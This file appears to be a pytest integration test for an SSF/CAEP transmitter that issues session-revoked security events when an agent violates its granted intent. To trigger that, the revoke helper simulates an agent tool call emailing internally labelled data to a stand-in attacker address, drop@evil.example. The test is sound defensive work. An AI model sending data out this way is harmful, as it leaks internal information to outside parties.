@@ -1,0 +1,371 @@
+"""The SSF transmitter on a real broker and a real worker, with a receiver written from the specs.
+
+The receiver below knows nothing of intentwatch's code: it speaks OpenID SSF 1.0
+(discovery, streams, status, verification), RFC 8936 (poll), RFC 8935 (push) and
+RFC 8417 (SETs) over plain HTTP (urllib, http.server), and verifies signatures with
+joserfc against the transmitter's published JWKS. It creates a poll stream and a
+push stream, verifies both, receives a revocation by each, and sees both streams and
+their undelivered SETs survive a restart of the transmitter.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import subprocess
+import sys
+import threading
+import time
+import urllib.error
+import urllib.request
+import uuid
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
+from typing import Any
+
+import pytest
+from joserfc import jws
+from joserfc.jwk import KeySet
+
+from intentwatch.local.kafka_broker import free_port
+from tests.conftest import REPO, RunningWorker, wait_for
+
+pytestmark = pytest.mark.kafka
+
+PUSH, POLL = "urn:ietf:rfc:8935", "urn:ietf:rfc:8936"
+SESSION_REVOKED = "https://schemas.openid.net/secevent/caep/event-type/session-revoked"
+VERIFICATION = "https://schemas.openid.net/secevent/ssf/event-type/verification"
+TOKEN = f"rx-{uuid.uuid4().hex}"
+PUSH_SECRET = f"Bearer push-{uuid.uuid4().hex}"
+AUDIENCE = "https://broker.acme.org"
+
+
+# -- a receiver, from the specifications ----------------------------------------------------
+
+
+class Receiver:
+    """An SSF receiver: discovery, stream management, SET validation (RFC 8417 + SSF 1.0)."""
+
+    def __init__(self, issuer: str, token: str | None = TOKEN) -> None:
+        self.issuer, self.token = issuer, token
+        status, self.metadata = self.request("GET", f"{issuer}/.well-known/ssf-configuration",
+                                             token=None)
+        assert status == 200 and self.metadata["issuer"] == issuer   # SSF 6.2.3 / 6.2.4
+        _, jwks = self.request("GET", self.metadata["jwks_uri"], token=None)
+        self.jwks = jwks
+        self.keys = KeySet.import_key_set(jwks)
+
+    def request(self, method: str, url: str, body: Any = None, *, token: str | None = "",
+                ) -> tuple[int, Any]:
+        token = self.token if token == "" else token
+        request = urllib.request.Request(url, method=method, data=None if body is None
+                                         else json.dumps(body).encode())
+        request.add_header("Content-Type", "application/json")
+        if token is not None:
+            request.add_header("Authorization", f"Bearer {token}")
+        try:
+            with urllib.request.urlopen(request, timeout=30) as response:
+                data = response.read()
+                return response.status, json.loads(data) if data else None
+        except urllib.error.HTTPError as error:
+            data = error.read()
+            return error.code, json.loads(data) if data else None
+
+    def endpoint(self, name: str) -> str:
+        return self.metadata[name]
+
+    def create(self, body: dict[str, Any]) -> dict[str, Any]:
+        status, stream = self.request("POST", self.endpoint("configuration_endpoint"), body)
+        assert status == 201, stream
+        assert stream["iss"] == self.issuer and stream["aud"] == AUDIENCE
+        return stream
+
+    def poll(self, stream: dict[str, Any], **body: Any) -> dict[str, Any]:
+        status, answer = self.request("POST", stream["delivery"]["endpoint_url"], body)
+        assert status == 200, answer
+        assert isinstance(answer["sets"], dict)                        # RFC 8936 2.5
+        return answer
+
+    def validate(self, token: str) -> dict[str, Any]:
+        """Check a SET as a receiver must, and return its claims."""
+        header = json.loads(_b64(token.split(".")[0]))
+        assert header["typ"] == "secevent+jwt"                         # SSF 4.1.1
+        assert header["alg"] == "RS256"                                # CAEP interop profile
+        key = self.keys.get_by_kid(header["kid"])
+        assert key.key_type == "RSA" and _rsa_bits(key) >= 2048        # interop: >= 2048 bits
+        claims = json.loads(jws.deserialize_compact(token, key, algorithms=["RS256"]).payload)
+        assert claims["iss"] == self.issuer                            # SSF 4.1.5
+        assert claims["aud"] == AUDIENCE
+        assert "sub" not in claims and "exp" not in claims             # SSF 4.1.2, 4.1.6
+        assert len(claims["events"]) == 1                              # SSF 4.2.1, interop
+        assert {"jti", "iat", "sub_id"} <= set(claims)                 # RFC 8417 2.2, SSF 3.1
+        return claims
+
+
+class PushEndpoint:
+    """An RFC 8935 receiving endpoint: 202 for a good SET, 503 for the first ``failures``."""
+
+    def __init__(self, receiver: Receiver, failures: int = 0) -> None:
+        self.receiver, self.failures = receiver, failures
+        self.received: list[dict[str, Any]] = []
+        self.attempts = 0
+        self.bad_requests: list[str] = []
+        outer = self
+
+        class Handler(BaseHTTPRequestHandler):
+            def do_POST(self) -> None:
+                body = self.rfile.read(int(self.headers["Content-Length"]))
+                outer.attempts += 1
+                if (self.headers["Content-Type"] != "application/secevent+jwt"
+                        or self.headers["Authorization"] != PUSH_SECRET):
+                    outer.bad_requests.append(str(self.headers))
+                    self._answer(400, {"err": "authentication_failed",
+                                       "description": "wrong headers"})
+                    return
+                if outer.failures > 0:
+                    outer.failures -= 1
+                    self._answer(503, None)
+                    return
+                outer.received.append(outer.receiver.validate(body.decode()))
+                self._answer(202, None)                                # RFC 8935 2.2
+
+            def _answer(self, status: int, body: Any) -> None:
+                data = b"" if body is None else json.dumps(body).encode()
+                self.send_response(status)
+                self.send_header("Content-Length", str(len(data)))
+                if body is not None:
+                    self.send_header("Content-Type", "application/json")
+                self.end_headers()
+                self.wfile.write(data)
+
+            def log_message(self, *args: Any) -> None:
+                pass
+
+        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.url = f"http://127.0.0.1:{self.server.server_address[1]}/events"
+        threading.Thread(target=self.server.serve_forever, daemon=True).start()
+
+    def close(self) -> None:
+        self.server.shutdown()
+        self.server.server_close()
+
+
+def _b64(segment: str) -> bytes:
+    import base64
+
+    return base64.urlsafe_b64decode(segment + "=" * (-len(segment) % 4))
+
+
+def _rsa_bits(key: Any) -> int:
+    return len(_b64(key.as_dict()["n"]).lstrip(b"\0")) * 8
+
+
+# -- the transmitter process ----------------------------------------------------------------
+
+
+class TransmitterProcess:
+    """``python -m intentwatch.ssf`` on a free port, stopped by pid."""
+
+    def __init__(self, worker: RunningWorker, home: Path, state_topic: str,
+                 port: int | None = None) -> None:
+        self.port = port or free_port()
+        self.issuer = f"http://127.0.0.1:{self.port}"
+        self.log_file = home / f"ssf-{uuid.uuid4().hex[:6]}.log"
+        receivers = home / "receivers.json"
+        receivers.write_text(json.dumps({"receivers": [
+            {"name": "broker", "token": TOKEN, "audience": AUDIENCE},
+            {"name": "other", "token": f"other-{TOKEN}"},
+        ]}))
+        os.chmod(receivers, 0o600)
+        env = {name: value for name, value in os.environ.items()
+               if not name.startswith("INTENTWATCH_")}
+        env.update({
+            "PYTHONPATH": str(REPO),
+            "INTENTWATCH_BOOTSTRAP": worker.bootstrap,
+            "INTENTWATCH_ISSUER": worker.issuer,
+            "INTENTWATCH_AUDIENCE": worker.audience,
+            "INTENTWATCH_SSF_PORT": str(self.port),
+            "INTENTWATCH_SSF_RECEIVERS": str(receivers),
+            "INTENTWATCH_SSF_KEYS_DIR": str(home / "ssf-keys"),
+            "INTENTWATCH_SSF_UPSTREAM_JWKS": worker.jwks_url,
+            "INTENTWATCH_SSF_STATE_TOPIC": state_topic,
+            "INTENTWATCH_SSF_POLL_WAIT_SECONDS": "10",
+            "INTENTWATCH_SSF_PUSH_BACKOFF_SECONDS": "0.2",
+            "INTENTWATCH_SSF_MIN_VERIFICATION_SECONDS": "1",
+        })
+        with self.log_file.open("wb") as log:
+            self.process = subprocess.Popen([sys.executable, "-m", "intentwatch.ssf"], cwd=home,
+                                            env=env, stdout=log, stderr=subprocess.STDOUT)
+        deadline = time.monotonic() + 90
+        while True:
+            if self.process.poll() is not None:
+                pytest.fail(f"transmitter exited:\n{self.log()}")
+            try:
+                with urllib.request.urlopen(f"{self.issuer}/.well-known/ssf-configuration",
+                                            timeout=2):
+                    return
+            except OSError:
+                if time.monotonic() > deadline:
+                    self.stop()
+                    pytest.fail(f"transmitter not serving within 90 s:\n{self.log()}")
+                time.sleep(0.2)
+
+    def log(self) -> str:
+        return self.log_file.read_text(errors="replace")
+
+    def stop(self) -> None:
+        if self.process.poll() is None:
+            self.process.terminate()
+            try:
+                self.process.wait(timeout=30)
+            except subprocess.TimeoutExpired:
+                self.process.kill()
+                self.process.wait(timeout=10)
+
+
+def about(agent: str) -> Any:
+    return lambda claims: claims["sub_id"].get("application", {}).get("uri") == agent
+
+
+def verification_of(stream: dict[str, Any]) -> Any:
+    return lambda claims: claims["sub_id"] == {"format": "opaque", "id": stream["stream_id"]}
+
+
+def take(rx: Receiver, stream: dict[str, Any], wanted: Any, count: int = 1,
+         timeout: float = 60.0) -> list[tuple[str, dict[str, Any]]]:
+    """Poll until ``count`` wanted SETs came; acknowledge the others (earlier tests' agents)."""
+    found: dict[str, dict[str, Any]] = {}
+    others: list[str] = []
+    deadline = time.monotonic() + timeout
+    while len(found) < count:
+        assert time.monotonic() < deadline, f"only {len(found)} of {count} SETs by poll"
+        answer = rx.poll(stream, ack=others)
+        others = []
+        for jti, token in answer["sets"].items():
+            claims = rx.validate(token)
+            assert claims["jti"] == jti                                # RFC 8936 2.5: by jti
+            if wanted(claims):
+                found[jti] = claims
+            else:
+                others.append(jti)
+    if others:
+        rx.poll(stream, ack=others, maxEvents=0)
+    return list(found.items())
+
+
+def revoke(worker: RunningWorker, agent: str, task: str) -> None:
+    """A grant naming the task's token, then a call far outside it: an intent violation."""
+    credential = f"c-{agent.rsplit('/', 1)[1]}-{task}"
+    sdk = worker.publisher
+    sdk.publish_grant(worker.grant(agent, task, token={"iss": "https://broker.acme.org",
+                                                       "jti": credential}))
+    sdk.publish_toolcall({"agent_id": agent, "task_id": task, "tool": "gmail.send_email",
+                          "credential_id": credential, "target": "mailto:drop@evil.example",
+                          "data_labels": ["internal"]})
+    sdk.flush()
+
+
+def check_revocation(claims: dict[str, Any], agent: str, task: str) -> None:
+    """The claims of a session-revoked SET (CAEP 1.0, SSF 1.0 complex subject)."""
+    event = claims["events"][SESSION_REVOKED]
+    assert event["initiating_entity"] == "policy"
+    assert event["reason_admin"]["en"]                                 # interop: non-empty
+    assert isinstance(event["event_timestamp"], int)
+    assert claims["sub_id"] == {
+        "format": "complex",
+        "application": {"format": "uri", "uri": agent},
+        "session": {"format": "jwt_id", "iss": "https://broker.acme.org",
+                    "jti": f"c-{agent.rsplit('/', 1)[1]}-{task}"},
+    }
+    assert claims["txn"] == claims["jti"]
+    assert claims["intentwatch"]["task_id"] == task
+
+
+def test_a_receiver_gets_revocations_by_poll_and_push_across_a_restart(
+    worker: RunningWorker, agent: str, tmp_path: Path
+) -> None:
+    state_topic = f"t-ssf-{uuid.uuid4().hex[:10]}.streams"
+    transmitter = TransmitterProcess(worker, tmp_path, state_topic)
+    push = None
+    try:
+        rx = Receiver(transmitter.issuer)
+        meta = rx.metadata
+        assert meta["spec_version"] == "1_0"
+        assert set(meta["delivery_methods_supported"]) == {PUSH, POLL}
+        assert {jwk["alg"] for jwk in rx.jwks["keys"]} >= {"RS256", "ES256", "EdDSA"}
+        streams_url, verify_url, status_url = (rx.endpoint(name) for name in (
+            "configuration_endpoint", "verification_endpoint", "status_endpoint"))
+        assert rx.request("GET", streams_url, token=None)[0] == 401
+        assert rx.request("GET", streams_url, token="not-a-receiver")[0] == 401
+        assert rx.request("GET", streams_url) == (200, [])
+
+        polled = rx.create({"events_requested": [SESSION_REVOKED], "description": "poll"})
+        assert polled["delivery"]["method"] == POLL                    # no delivery: poll
+        assert polled["events_delivered"] == [SESSION_REVOKED]
+        assert rx.request("POST", verify_url, {"stream_id": polled["stream_id"],
+                                               "state": "poll-1"}) == (204, None)
+        (_, verification), = take(rx, polled, verification_of(polled))
+        assert verification["events"] == {VERIFICATION: {"state": "poll-1"}}
+
+        push = PushEndpoint(rx, failures=2)
+        pushed = rx.create({"delivery": {"method": PUSH, "endpoint_url": push.url,
+                                         "authorization_header": PUSH_SECRET}})
+        assert "authorization_header" not in pushed["delivery"]
+        assert rx.request("POST", verify_url, {"stream_id": pushed["stream_id"],
+                                               "state": "push-1"}) == (204, None)
+        pushed_verification = wait_for(
+            lambda: [c for c in push.received if verification_of(pushed)(c)], bool, 30,
+            "the pushed verification event")
+        assert pushed_verification[0]["events"] == {VERIFICATION: {"state": "push-1"}}
+        assert push.failures == 0 and push.attempts >= 3, "two 503s were retried"
+
+        other = Receiver(transmitter.issuer, token=f"other-{TOKEN}")
+        assert other.request("GET", streams_url) == (200, [])
+        assert other.request("GET", f"{streams_url}?stream_id={polled['stream_id']}")[0] == 404
+
+        revoke(worker, agent, "t1")
+        (first_jti, first), = take(rx, polled, about(agent))
+        check_revocation(first, agent, "t1")
+        pushed_first = wait_for(lambda: [c for c in push.received if about(agent)(c)], bool, 60,
+                                "the pushed revocation")
+        assert pushed_first[0]["jti"] == first_jti
+        check_revocation(pushed_first[0], agent, "t1")
+
+        # Restart: the poll stream's revocation was never acknowledged.
+        transmitter.stop()
+        assert transmitter.process.returncode == 0, transmitter.log()
+        transmitter = TransmitterProcess(worker, tmp_path, state_topic, port=transmitter.port)
+        status, streams = rx.request("GET", streams_url)
+        assert status == 200
+        assert sorted(s["stream_id"] for s in streams) == sorted(
+            [polled["stream_id"], pushed["stream_id"]])
+        assert next(s for s in streams if s["stream_id"] == polled["stream_id"]) == polled
+        again = take(rx, polled, about(agent))
+        assert [jti for jti, _ in again] == [first_jti], "delivered again until acknowledged"
+
+        revoke(worker, agent, "t2")
+        rx.poll(polled, ack=[first_jti], maxEvents=0)
+        (second_jti, second), = take(rx, polled, about(agent))
+        check_revocation(second, agent, "t2")
+        rx.poll(polled, ack=[second_jti], maxEvents=0)
+        wait_for(lambda: [c["jti"] for c in push.received], lambda jtis: second_jti in jtis, 60,
+                 "the second pushed revocation")
+        ours = [c["jti"] for c in push.received if about(agent)(c) or verification_of(pushed)(c)]
+        assert list(dict.fromkeys(ours)) == [pushed_verification[0]["jti"], first_jti, second_jti]
+        assert push.bad_requests == []
+
+        assert rx.request("POST", status_url, {"stream_id": pushed["stream_id"],
+                                               "status": "paused", "reason": "maintenance"}) == (
+            200, {"stream_id": pushed["stream_id"], "status": "paused", "reason": "maintenance"})
+        assert rx.request("GET", f"{status_url}?stream_id={pushed['stream_id']}")[1][
+            "status"] == "paused"
+        assert rx.request("DELETE", f"{streams_url}?stream_id={polled['stream_id']}") == (
+            204, None)
+        assert rx.request("GET", f"{streams_url}?stream_id={polled['stream_id']}")[0] == 404
+    finally:
+        transmitter.stop()
+        if push is not None:
+            push.close()
+    for log in tmp_path.glob("ssf-*.log"):
+        text = log.read_text(errors="replace")
+        assert TOKEN not in text and PUSH_SECRET.split()[1] not in text, "a secret was logged"
